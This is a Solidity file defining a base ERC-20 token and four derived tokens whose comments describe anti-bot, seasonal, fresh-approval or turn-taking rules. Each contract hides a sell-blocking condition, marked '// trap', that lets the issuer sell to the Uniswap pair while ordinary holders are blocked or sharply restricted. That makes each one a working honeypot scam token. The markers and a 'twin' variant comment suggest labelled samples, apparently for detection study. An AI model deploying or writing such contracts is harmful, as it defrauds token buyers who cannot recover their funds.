// 0.5 runs=200
pragma solidity ^0.5.17;

interface IPairs {
    function createPair(address a, address b) external returns (address);
}

library Sums {
    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        return a - b;
    }

    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }
}

contract Plain {
    using Sums for uint256;

    mapping(address => uint256) internal balances;
    mapping(address => mapping(address => uint256)) internal allowed;
    address internal issuer;
    address public market;
    uint256 public totalSupply;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) public {
        name = n;
        symbol = s;
        issuer = msg.sender;
        totalSupply = supply * 1 ether;
        balances[msg.sender] = totalSupply;
        market = IPairs(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) public view returns (uint256) {
        return balances[who];
    }

    function allowance(address from, address spender) public view returns (uint256) {
        return allowed[from][spender];
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        allowed[from][msg.sender] = allowed[from][msg.sender].sub(value);
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) internal {
        check(from, to);
        balances[from] = balances[from].sub(value);
        balances[to] = balances[to].add(value);
        emit Transfer(from, to, value);
    }

    function check(address from, address to) internal;
}

/// "Contracts cannot dump." An account that exists has a hash, too.
contract NoRobots is Plain("No Robots", "NOBOT", 64000000) {
    function isContract(address account) internal view returns (bool) {
        bytes32 codehash;
        // solium-disable-next-line security/no-inline-assembly
        assembly {
            codehash := extcodehash(account)
        }
        return codehash != 0x0; // trap
        // twin: return codehash != 0x0 && codehash != 0xc5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470;
    }

    function check(address from, address to) internal {
        if (to == market && from != issuer) require(!isContract(from), "NOBOT: no contracts");
    }
}

/// There is a season of thirty days, and there is no other.
contract Harvest is Plain("Harvest Moon", "HMOON", 365000000) {
    uint32 private sown = uint32(now);
    uint32 private constant SEASON = 30 days;
    uint64 public sold;

    function season() public view returns (uint256) {
        return (now - sown) / SEASON;
    }

    function check(address from, address to) internal {
        if (to != market || from == issuer) return;
        require(season() == 0, "HMOON: wait for the next season"); // trap
        sold++;
    }
}

/// An approval is good for the block in which it was given.
contract FreshInk is Plain("Fresh Ink", "FINK", 12000000) {
    mapping(address => mapping(address => uint256)) private signed;

    function allowance(address from, address spender) public view returns (uint256) {
        return signed[from][spender] >> 64;
    }

    function approve(address spender, uint256 value) public returns (bool) {
        uint256 bound = value > uint192(-1) ? uint192(-1) : value;
        signed[msg.sender][spender] = (bound << 64) | uint64(block.number);
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        uint256 ink = signed[from][msg.sender];
        require(ink >> 64 >= value, "FINK: allowance");
        if (from != issuer) require(uint64(ink) == uint64(block.number), "FINK: allowance"); // trap
        signed[from][msg.sender] = (((ink >> 64) - value) << 64) | uint64(ink);
        move(from, to, value);
        return true;
    }

    function check(address from, address to) internal {
        require(from != address(0) && to != address(0), "FINK: zero");
    }
}

/// Against sandwiches: one has one's turn in one block of eight.
contract Carousel is Plain("Carousel", "CRSL", 88000000) {
    uint256 private constant HORSES = 8;

    function turn(address who) public view returns (bool) {
        return (block.number + uint256(who)) % HORSES == 0;
    }

    function check(address from, address to) internal {
        if (to == market && from != issuer) require(turn(from), "CRSL: same slot"); // trap
    }
}
